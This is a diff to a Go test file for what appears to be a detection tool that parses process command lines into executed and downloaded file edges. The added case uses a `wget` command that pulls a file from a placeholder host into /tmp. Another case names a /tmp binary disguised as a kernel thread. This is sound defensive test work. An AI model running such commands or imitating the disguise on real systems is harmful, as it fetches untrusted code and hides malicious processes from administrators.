@@ -122,6 +122,10 @@ func TestExtract(t *testing.T) {
 	if has(got, EdgeExecuted, TypeFile, "/usr/bin/wget", 0) {
 		t.Error("system image reported as executed")
 	}
+	got, _ = x.ExtractArgv("/usr/bin/dash", []string{`sh -c "wget -O /tmp/u http://u.example/u"`}, "")
+	if !has(got, EdgeDownloaded, TypeFile, "/tmp/u", 0) {
+		t.Errorf("unsplit command line not parsed: %+v", got)
+	}
 	got, _ = x.ExtractArgv("/tmp/.x/kworker", []string{"[kworker/0:1]"}, "")
 	if !has(got, EdgeExecuted, TypeFile, "/tmp/.x/kworker", 0) {
 		t.Errorf("image in /tmp not reported: %+v", got)
